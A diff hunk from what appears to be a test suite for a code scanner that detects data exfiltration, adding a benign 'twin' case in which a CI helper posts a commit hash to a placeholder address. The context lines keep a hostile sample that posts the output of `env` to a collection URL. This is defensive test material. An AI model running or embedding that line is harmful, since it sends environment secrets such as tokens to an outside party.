@@ -1054,6 +1054,15 @@ _each("env-through-a-command", T, "the environment read by running env, then pos
     import requests
     requests.post({COLLECT_URL!r}, data=subprocess.check_output(['env']))
     """, (L,))
+_twin("build-info-upload", T, "a CI helper posts the commit it built (git rev-parse output) to a fixed address", L, """
+    import subprocess
+    import requests
+
+
+    def report_build():
+        commit = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()
+        return requests.post('https://ci.example.invalid/builds', json={'commit': commit})
+    """)
 _twin("twine-like-upload", T, "an upload tool reads ~/.pypirc and posts a distribution", L, """
     import configparser
     import os
